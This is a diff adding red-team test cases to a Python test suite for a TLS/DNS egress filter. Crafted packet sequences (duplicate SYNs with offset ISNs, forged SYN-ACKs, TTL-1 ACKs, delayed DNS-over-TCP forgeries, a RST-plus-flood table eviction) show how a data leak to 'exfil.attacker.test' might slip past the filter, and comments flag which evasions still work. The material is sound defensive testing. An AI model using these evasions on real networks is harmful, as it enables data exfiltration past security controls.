@@ -30133,10 +30133,14 @@ def case_dtcp_pipelined_ok(n):
     return cap, {"pass": [passm(n)]}
 
 
-@case
+@open_case
 def case_dtcp_resend_ok(n):
     """Honest: a signed answer in two segments; the stub's ACK is lost, and the resolver
-    sends the first segment again, the same bytes. TLS to 198.51.100.200 must be allowed."""
+    sends the first segment again, the same bytes. TLS to 198.51.100.200 must be allowed.
+    Open since red team round 48: a part of an answer that taught, sent again short of its
+    end, is taken as the resolver's own copy still to come (dns_asm_behind: a client that
+    withholds its ACKs makes the resolver send it so, rt48_dtcp_cwnd_late), and what the
+    flow taught is taken back: a false block after a loss before us."""
     cap = Capture()
     t = dtcp_open(cap, 63604, 0x760400, [(0x7603, E2M_NAME)])
     b = dtcp_msg(rt45_dnssec_answer(0x7603, E2M_NAME, [ATK_OK, "198.51.100.201"], 4))
@@ -30962,6 +30966,461 @@ def case_rt47_frag_flood_out_ok(n):
     t.data(False, tls_appdata(n + "resp", 400))
     t.close()
     return cap, {"pass": [passm(n)]}
+
+
+
+# ------------------------------------------------ red team round 48 (rt48, a helper)
+# The two changes of the thirty-seventh session, attacked: DNS learning over TCP (judge_learn_at,
+# dns_asm_feed, dns_asm_copy) and the outside packets dropped alone (judge_outside_ignored,
+# judge_synack_take, the SYN that moves the start). Source ports 63700-63899, ISNs 0x770000
+# and up.
+
+RT48_OUT = "203.0.113.80"   # an honest outside client (passthrough)
+RT48_NOZONE = "198.18.0.10"  # a site address of no zone
+
+
+def rt48_hidden_hello(n):
+    """A ClientHello record for e2m.customs.example whose last extension (0x7777, opaque)
+    holds a whole ClientHello record for exfil.attacker.test (its session id the leak
+    marker). Returns (outer record, offset of the inner record in it)."""
+    inner = hello(n + "in", sni=EVIL, sid=sid32(leak(n)))
+    exts = ([sni_ext([sni_entry(E2M_NAME.encode())])] + std_exts(n) + [alpn_ext()]
+            + [ext(0x7777, inner)])
+    outer = record(22, hs_client_hello(n, exts=exts))
+    d = outer.find(inner)
+    assert d > 0 and outer.endswith(inner)
+    return outer, d
+
+
+# Open: judge.c judge_tcp_long / judge_synack_take: the newest SYN taken as the one the server answers (Linux keeps the first).
+@case
+def case_rt48_syn2_hidden_hello(n):
+    """Strict zone, an inside host and an accomplice outside. The host sends two SYNs on
+    one port: ISN1, then ISN2 = ISN1 - d. Since the thirty-seventh session the second
+    moves our stream start to ISN2 + 1 (a connect() again), and judge_synack_take drops
+    the server's SYN-ACK, which acknowledges ISN1 + 1, as one the host would reset. But the
+    server (Linux, SYN-RECV for ISN1) takes the second SYN as out of its window
+    (tcp_check_req: an ACK back, the request kept): it holds ISN1's connection. Its
+    challenge ACK passes (a bare ACK) and shows the host its ISN; the accomplice forges a
+    SYN-ACK with that ISN acknowledging ISN2 + 1, which we take. The host's hello at
+    ISN2 + 1 (ACK = the server's ISN + 1) completes the server's handshake
+    (tcp_in_window: it ends past ISN1 + 1) and the server trims its first d bytes: it
+    reads the record hidden in the last extension of the e2m hello we read, a hello for
+    exfil.attacker.test. Must drop (the hidden hello and what follows must not pass)."""
+    cap = Capture()
+    outer, d = rt48_hidden_hello(n)
+    isn2 = 0x770000
+    isn1 = isn2 + d
+    t = ETcp(cap, S1, 63700, E2M, 443, isn=isn2, rtt_us=20000)
+    s_isn = t.sseq
+    opts = [("MSS", 1460), ("SAckOK", b""), ("WScale", 7)]
+    t.raw(True, "S", seq=isn1, options=opts)
+    t.raw(True, "S", seq=isn2, options=opts, gap=300)
+    # the server's SYN-ACK to the first SYN (dropped by us), its challenge ACK to the second
+    t.raw(False, "SA", seq=s_isn, ack=isn1 + 1, options=opts, gap=10000)
+    t.raw(False, "A", seq=s_isn + 1, ack=isn1 + 1, gap=200)
+    # the accomplice's SYN-ACK: the server's ISN, the newest SYN's ACK
+    t.raw(False, "SA", seq=s_isn, ack=isn2 + 1, options=opts, gap=3000)
+    t.cseq, t.sseq = isn2 + 1, s_isn + 1
+    t.raw(True, "A")
+    t.send(True, outer)
+    t.ack(False)
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(leak(n), n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt48_syn2_reconnect_ok(n):
+    """Honest (false-block twin of rt48_syn2_hidden_hello): an E2M client's first SYN is
+    lost before the server; its application gives up and connects again from the same
+    port (a bound socket): a SYN with another ISN, answered. Must be allowed."""
+    cap = Capture()
+    t = ETcp(cap, S1, 63701, E2M, 443, isn=0x770100, rtt_us=20000)
+    opts = [("MSS", 1460), ("SAckOK", b""), ("WScale", 7)]
+    t.raw(True, "S", seq=0x770100 + 0x5000, options=opts)
+    t.raw(True, "S", options=opts, gap=1000000)
+    t.cseq += 1
+    t.raw(False, "SA", options=opts)
+    t.sseq += 1
+    t.raw(True, "A")
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_rt48_syn2_chack_rst_ok(n):
+    """Honest: an E2M client's first SYN reaches the server but its SYN-ACK is lost on the
+    way (before aduana); the client connects again from the same port with another ISN.
+    The server, in SYN-RECV for the first, answers the new SYN with an ACK (out of its
+    window); the client (SYN-SENT, an unacceptable ACK) answers that with a RST at its ACK
+    number, which resets the server's request; the client's SYN sent again 1 s later is
+    answered. Must be allowed."""
+    cap = Capture()
+    isn2 = 0x770200
+    isn1 = isn2 + 0x9000
+    t = ETcp(cap, S1, 63702, E2M, 443, isn=isn2, rtt_us=20000)
+    s1 = 0x1badd00d
+    opts = [("MSS", 1460), ("SAckOK", b""), ("WScale", 7)]
+    t.raw(True, "S", seq=isn1, options=opts)
+    t.raw(True, "S", seq=isn2, options=opts, gap=1500000)
+    t.raw(False, "A", seq=s1 + 1, ack=isn1 + 1, gap=10000)
+    t.raw(True, "R", seq=isn1 + 1, gap=100)
+    t.raw(True, "S", seq=isn2, options=opts, gap=1000000)
+    t.cseq += 1
+    t.raw(False, "SA", options=opts)
+    t.sseq += 1
+    t.raw(True, "A")
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+def rt48_zwin(cap, cport, isn, qid, opener):
+    """A stub's TCP connection to the resolver whose query goes with a zero window (the
+    resolver holds its answer); opener: a bare ACK opening the window that expires at the
+    next hop (TTL 1), which the resolver never gets. The accomplice's answer (198.18.0.66)
+    at the resolver's next byte; the resolver's zero-window probes, answered with a zero
+    window; 11 s later the window opens and the resolver's own answer (198.51.100.5, the
+    same length) comes at that same byte. Returns the connection."""
+    t = ETcp(cap, S1, cport, RESOLVER, 53, isn=isn, rtt_us=2000)
+    t.handshake()
+    q = dtcp_msg(rt45_q(qid, E2M_NAME))
+    t.raw(True, "PA", q, window=0)
+    t.cseq += len(q)
+    t.raw(False, "A")
+    if opener:
+        t.raw(True, "A", ipkw={"ttl": 1}, gap=300)
+    fa = dtcp_msg(forged_dns_answer(qid, E2M_NAME, ATK))
+    ra = dtcp_msg(rt45_a(qid, E2M_NAME, E2M))
+    assert len(fa) == len(ra)
+    x = t.sseq
+    t.raw(False, "PA", fa, gap=500)
+    for g in (200000, 400000, 800000):
+        t.raw(False, "A", seq=x - 1, gap=g)
+        t.raw(True, "A", window=0, gap=100)
+    cap.idle(11)
+    t.raw(False, "A", seq=x - 1)
+    t.raw(True, "A", gap=100)
+    t.raw(False, "PA", ra, seq=x, gap=500)
+    t.sseq = x + len(ra)
+    t.ack(True)
+    t.close()
+    return t
+
+
+@case
+def case_rt48_dtcp_zwin_late(n):
+    """Strict zone, an inside host and an accomplice: the host's query for
+    e2m.customs.example goes with a zero window, so the resolver (Linux) holds its answer
+    and sends only zero-window probes; a bare ACK opening the window with TTL 1 (it dies at
+    the next hop) opens it for us alone (judge_ack_hi and judge_zero_window take a window
+    from any segment of the client's with a right sum). The accomplice's answer
+    (198.18.0.66) at the resolver's next byte teaches and is kept 10 s. The host keeps its
+    window shut for 11 s: the resolver's own answer then comes at the same byte, after the
+    kept copy (dns_asm_copy) and the answered query (dns_pending_answered) are gone, and is
+    compared with nothing. TLS with the e2m name to 198.18.0.66 must drop."""
+    cap = Capture()
+    rt48_zwin(cap, 63710, 0x771000, 0x7701, True)
+    cap.idle(0.05)
+    tls_flow(cap, S1, 63711, ATK, 0x771100, n, send_whole(hello(n)), leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt48_dtcp_zwin_shut(n):
+    """rt48_dtcp_zwin_late without the TTL-1 opener: the accomplice's answer comes while
+    the host's window is shut, which its stack drops (judge_zero_window): it teaches
+    nothing. TLS with the e2m name to 198.18.0.66 must drop."""
+    cap = Capture()
+    rt48_zwin(cap, 63712, 0x771200, 0x7702, False)
+    cap.idle(0.05)
+    tls_flow(cap, S1, 63713, ATK, 0x771300, n, send_whole(hello(n)), leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+def rt48_a_aaaa_open(cap, cport, isn, qa, qaaaa):
+    """glibc (use-vc): the A and AAAA queries for e2m.customs.example in one segment."""
+    t = ETcp(cap, S1, cport, RESOLVER, 53, isn=isn, rtt_us=2000)
+    t.handshake()
+    t.data(True, dtcp_msg(rt45_q(qa, E2M_NAME)) + dtcp_msg(rt45_q(qaaaa, E2M_NAME, "AAAA")))
+    return t
+
+
+def rt48_nodata(qid, name, qtype):
+    return bytes(DNS(id=qid, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype=qtype)))
+
+
+# Open (a false block): judge.c judge_learn_tcp: a DNS_ASM_PART copy that starts inside a kept message is read as a message start.
+@case
+def case_rt48_dtcp_collapse_ok(n):
+    """Honest, a loss after aduana: glibc's A and AAAA queries; the resolver's signed A
+    answer (198.51.100.200, signed) in segments of 1448 bytes and a short tail (joined,
+    taught, kept), then the AAAA answer (no data: teaches nothing, not kept) in a segment
+    of its own. The stub's ACK covers all but the tail (the tail and the AAAA answer were
+    lost past aduana); at its timer the resolver sends both again as one segment (Linux,
+    tcp_retrans_try_collapse: together they fit one MSS). That copy starts inside the kept answer and runs past it
+    (dns_asm_copy: DNS_ASM_PART); judge_learn_tcp then reads its first bytes as a message
+    length. TLS to 198.51.100.200 must be allowed."""
+    cap = Capture()
+    t = rt48_a_aaaa_open(cap, 63714, 0x771400, 0x7703, 0x7704)
+    a = dtcp_msg(rt45_dnssec_answer(0x7703, E2M_NAME, [ATK_OK, "198.51.100.201"], 4))
+    b = dtcp_msg(rt48_nodata(0x7704, E2M_NAME, "AAAA"))
+    segs = dtcp_cut(a, range(1448, len(a), 1448))
+    tail = len(a) - len(segs[-1])
+    assert len(segs) >= 2 and len(segs[-1]) + len(b) <= 1448
+    x = t.sseq
+    for i, sg in enumerate(segs):
+        t.raw(False, "PA", sg, seq=x + 1448 * i, gap=200)
+    t.raw(False, "PA", b, seq=x + len(a), gap=200)
+    t.raw(True, "A", ack=x + tail, gap=1000)
+    t.raw(False, "PA", segs[-1] + b, seq=x + tail, gap=250000)
+    t.sseq = x + len(a) + len(b)
+    t.ack(True)
+    t.close()
+    cap.idle(0.05)
+    tls_flow(cap, S1, 63715, ATK_OK, 0x771500, n, send_whole(hello(n)), passm(n))
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_rt48_dtcp_reorder_ok(n):
+    """Honest: the resolver's signed answer (198.51.100.200) in two segments that arrive in
+    the other order (the second first); the second comes again at the resolver's timer
+    (the stub acknowledged the first only). TLS to 198.51.100.200 must be allowed."""
+    cap = Capture()
+    t = dtcp_open(cap, 63716, 0x771600, [(0x7705, E2M_NAME)])
+    a = dtcp_msg(rt45_dnssec_answer(0x7705, E2M_NAME, [ATK_OK, "198.51.100.201"], 4))
+    x = t.sseq
+    t.raw(False, "PA", a[1448:], seq=x + 1448)
+    t.raw(False, "PA", a[:1448], seq=x, gap=300)
+    # what the stub did not get (a segment past a gap is held or dropped by us) its
+    # server sends again at its timer
+    t.raw(True, "A", ack=x + 1448, gap=100)
+    t.raw(False, "PA", a[1448:], seq=x + 1448, gap=200000)
+    t.sseq = x + len(a)
+    t.ack(True)
+    t.close()
+    cap.idle(0.05)
+    tls_flow(cap, S1, 63717, ATK_OK, 0x771700, n, send_whole(hello(n)), passm(n))
+    return cap, {"pass": [passm(n)]}
+
+
+
+
+def rt48_rto(cap, cport, isn, qid, wait):
+    """The resolver held by its own timer (rt48_dtcp_rto_late): the stub leaves the answer to
+    a first query (www.customs.example) unacknowledged and sends its query for
+    e2m.customs.example with a zero window; a TTL-1 ACK opens the window for us alone; the
+    accomplice's answer (198.18.0.66) at the resolver's next byte; the resolver's timer
+    sends its first answer again (5 times, backing off); `wait` s after the forgery the
+    stub acknowledges the first answer with its window open, and the resolver's own
+    answer (198.51.100.5, the same length) comes at the forgery's place."""
+    t = ETcp(cap, S1, cport, RESOLVER, 53, isn=isn, rtt_us=2000)
+    t.handshake()
+    t.data(True, dtcp_msg(rt45_q(qid, "www.customs.example")))
+    a1 = dtcp_msg(rt45_a(qid, "www.customs.example", "198.51.100.201"))
+    x0 = t.sseq
+    t.raw(False, "PA", a1)
+    x = x0 + len(a1)
+    q = dtcp_msg(rt45_q(qid + 1, E2M_NAME))
+    t.raw(True, "PA", q, ack=x0, window=0, gap=300)
+    t.cseq += len(q)
+    t.raw(False, "A", seq=x)                       # the resolver's ACK of the query
+    t.raw(True, "A", ack=x0, ipkw={"ttl": 1}, window=502, gap=300)
+    fa = dtcp_msg(forged_dns_answer(qid + 1, E2M_NAME, ATK))
+    ra = dtcp_msg(rt45_a(qid + 1, E2M_NAME, E2M))
+    assert len(fa) == len(ra)
+    t.raw(False, "PA", fa, seq=x, gap=500)
+    left = wait * 1000000
+    for g in (200000, 400000, 800000, 1600000, 3200000):
+        if g > left:
+            break
+        t.raw(False, "PA", a1, seq=x0, gap=g)       # the resolver's timer: its head again
+        t.raw(True, "A", ack=x0, window=0, gap=100)
+        left -= g + 100
+    t.raw(True, "A", ack=x, window=502, gap=max(left, 100))
+    t.raw(False, "PA", ra, seq=x, gap=500)
+    t.sseq = x + len(ra)
+    t.ack(True)
+    t.close()
+    return t
+
+
+# Open: judge.c judge_learn_tcp (dns.h DNS_ASM_NS, DNS_ANSWERED_NS): a later copy is compared for 10 s only; the inside host holds the resolver longer.
+@case
+def case_rt48_dtcp_rto_late(n):
+    """Strict zone, an inside host and an accomplice (rt48_rto): the resolver's answer over
+    TCP is held 11 s by the host's window, its timer sending only its first answer again
+    (Linux, tcp_retransmit_timer: bytes in flight, a window shrunk to zero: the head sent
+    again, no bare probe); a TTL-1 ACK (the resolver never gets it) opens the window for
+    us alone (judge_ack_hi, judge_zero_window take any segment of the client's with a right
+    sum), and the accomplice's answer (198.18.0.66) teaches. The resolver's own answer
+    then comes at the same byte after the kept copy (dns_asm_copy) and the answered query
+    (dns_pending_answered) are gone (10 s), and is compared with nothing. TLS with the e2m
+    name to 198.18.0.66 must drop."""
+    cap = Capture()
+    rt48_rto(cap, 63718, 0x771800, 0x7706, 11)
+    cap.idle(0.05)
+    tls_flow(cap, S1, 63719, ATK, 0x771900, n, send_whole(hello(n)), leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt48_dtcp_rto_soon(n):
+    """rt48_dtcp_rto_late with the window opened 2 s after the forgery: the resolver's own
+    answer is compared with the kept one, differs, and what the flow taught is taken
+    back. TLS with the e2m name to 198.18.0.66 must drop."""
+    cap = Capture()
+    rt48_rto(cap, 63720, 0x772000, 0x7708, 2)
+    cap.idle(0.05)
+    tls_flow(cap, S1, 63721, ATK, 0x772100, n, send_whole(hello(n)), leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+# Open (a regression of e29ef48): judge.c judge_tcp_long / judge_synack_take, as rt48_syn2_hidden_hello; the hello before any SYN-ACK taken is forwarded.
+@case
+def case_rt48_syn2_solo_hello(n):
+    """rt48_syn2_hidden_hello without the accomplice: after the two SYNs (ISN2 = ISN1 - d),
+    the server's SYN-ACK to the first (dropped by us) and its ACK to the second (passed:
+    it shows its ISN), the inside host sends its hello at ISN2 + 1 acknowledging the
+    server's ISN + 1, with no SYN-ACK taken by us. The server completes its handshake and
+    reads the hidden hello for exfil.attacker.test. Must drop."""
+    cap = Capture()
+    outer, d = rt48_hidden_hello(n)
+    isn2 = 0x772200
+    isn1 = isn2 + d
+    t = ETcp(cap, S1, 63722, E2M, 443, isn=isn2, rtt_us=20000)
+    s_isn = t.sseq
+    opts = [("MSS", 1460), ("SAckOK", b""), ("WScale", 7)]
+    t.raw(True, "S", seq=isn1, options=opts)
+    t.raw(True, "S", seq=isn2, options=opts, gap=300)
+    t.raw(False, "SA", seq=s_isn, ack=isn1 + 1, options=opts, gap=10000)
+    t.raw(False, "A", seq=s_isn + 1, ack=isn1 + 1, gap=200)
+    t.cseq, t.sseq = isn2 + 1, s_isn + 1
+    t.send(True, outer)
+    t.ack(False)
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(leak(n), n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+
+# Open (older): judge.c judge_synack_take / judge_synack_rebase: a second SYN-ACK with the same ISN and another ACK moves the client's start.
+@case
+def case_rt48_sa2_rebase_hidden(n):
+    """Strict zone, an inside host and an accomplice, one SYN (ISN1): the server's SYN-ACK
+    is taken; then, before the host's first byte, the accomplice forges a second SYN-ACK
+    with the server's ISN (the host saw it) acknowledging ISN1 + 1 - d. It is taken again
+    (the same number) and judge_synack_rebase moves our stream start to ISN1 + 1 - d.
+    The host (Linux, established) answers it with a challenge ACK and ignores it; the
+    server's stream still starts at ISN1 + 1. The hello at ISN1 + 1 - d: we read the e2m
+    hello, the server trims d bytes and reads the hello hidden in its last extension (for
+    exfil.attacker.test). Must drop. (Before the thirty-seventh session as well.)"""
+    cap = Capture()
+    outer, d = rt48_hidden_hello(n)
+    isn1 = 0x772400
+    t = ETcp(cap, S1, 63724, E2M, 443, isn=isn1, rtt_us=20000)
+    t.handshake()
+    s_isn = t.sseq - 1
+    opts = [("MSS", 1460), ("SAckOK", b""), ("WScale", 7)]
+    t.raw(False, "SA", seq=s_isn, ack=isn1 + 1 - d, options=opts, gap=3000)
+    t.raw(True, "A", gap=100)   # the challenge ACK
+    t.cseq = isn1 + 1 - d
+    t.send(True, outer)
+    t.ack(False)
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(leak(n), n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+
+@case
+def case_rt48_ptr_rst_evict_ok(n):
+    """An honest inbound session from outside (203.0.113.80) to a site address of no zone
+    (198.18.0.10:443, passthrough), answered by its inside host: not evictable. An outside
+    forger who knows only the 4-tuple sends a RST in the client's name, its sequence number
+    anything: on a flow that is not checked any RST counts (judge_flow_state), and since
+    the thirty-seventh session a passthrough flow from outside with a RST is evictable
+    (flow_is_evictable). The server (Linux) answers it with a challenge ACK and goes on.
+    Then 9000 bare ACKs from forged sources to other addresses of no zone fill the table,
+    and the session goes on: its bytes must still pass (a new passthrough flow where its
+    entry was taken)."""
+    cap = Capture()
+    t = ETcp(cap, RT48_OUT, 63730, RT48_NOZONE, 443, isn=0x773000, rtt_us=20000)
+    t.handshake()
+    t.data(True, tls_appdata(n + "a", 200))
+    t.data(False, tls_appdata(n + "b", 300))
+    t.raw(True, "R", seq=(t.cseq + 0x40000000) & 0xFFFFFFFF, gap=3000)
+    t.raw(False, "A", gap=100)   # the challenge ACK
+    _rt47_flood(cap, n, 9000, lambda i: IP(src=_rt47_src(i), dst="198.18.0.%d" % (100 + i % 100))
+                / TCP(sport=1024 + i, dport=443, flags="A", seq=i * 7919, ack=i * 104729))
+    t.data(True, marked_record(passm(n), n + "c"))
+    t.data(False, marked_record(passm(n) + b"s", n + "d"))
+    t.close()
+    return cap, {"pass": [passm(n), passm(n) + b"s"]}
+
+
+
+# Open: judge.c judge_learn_tcp, as rt48_dtcp_rto_late, the resolver held by its own congestion window.
+@case
+def case_rt48_dtcp_cwnd_late(n):
+    """rt48_dtcp_rto_late with no window trick at all: the stub never acknowledges the
+    resolver's answer to a first query (www.customs.example). The resolver's (Linux)
+    retransmission timer fires and sends it again, its congestion window now one segment
+    (tcp_enter_loss), which that copy fills. The stub's query for e2m.customs.example
+    then comes (its ACK still the first answer's first byte, its window open): the
+    resolver answers it into its send queue, but may not send it while the first answer
+    is unacknowledged. The accomplice's answer (198.18.0.66) at the resolver's next byte
+    teaches; the resolver keeps sending its first answer again, backing off; 11 s later
+    the stub acknowledges it, and the resolver's own answer (198.51.100.5) comes at the
+    forgery's place, compared with nothing (dns_asm_copy, dns_pending_answered: 10 s).
+    TLS with the e2m name to 198.18.0.66 must drop."""
+    cap = Capture()
+    t = ETcp(cap, S1, 63726, RESOLVER, 53, isn=0x772600, rtt_us=2000)
+    t.handshake()
+    t.data(True, dtcp_msg(rt45_q(0x770a, "www.customs.example")))
+    a1 = dtcp_msg(rt45_a(0x770a, "www.customs.example", "198.51.100.201"))
+    x0 = t.sseq
+    t.raw(False, "PA", a1)
+    x = x0 + len(a1)
+    t.raw(False, "PA", a1, seq=x0, gap=210000)       # its timer: cwnd 1
+    q = dtcp_msg(rt45_q(0x770b, E2M_NAME))
+    t.raw(True, "PA", q, ack=x0, gap=5000)
+    t.cseq += len(q)
+    t.raw(False, "A", seq=x)                          # its ACK of the query
+    fa = dtcp_msg(forged_dns_answer(0x770b, E2M_NAME, ATK))
+    ra = dtcp_msg(rt45_a(0x770b, E2M_NAME, E2M))
+    assert len(fa) == len(ra)
+    t.raw(False, "PA", fa, seq=x, gap=500)
+    for g in (400000, 800000, 1600000, 3200000, 5000000):
+        t.raw(False, "PA", a1, seq=x0, gap=g)
+    t.raw(True, "A", ack=x, gap=100000)
+    t.raw(False, "PA", ra, seq=x, gap=500)
+    t.sseq = x + len(ra)
+    t.ack(True)
+    t.close()
+    cap.idle(0.05)
+    tls_flow(cap, S1, 63727, ATK, 0x772700, n, send_whole(hello(n)), leak(n))
+    return cap, {"leak": [leak(n)]}
 
 
 def main(argv):
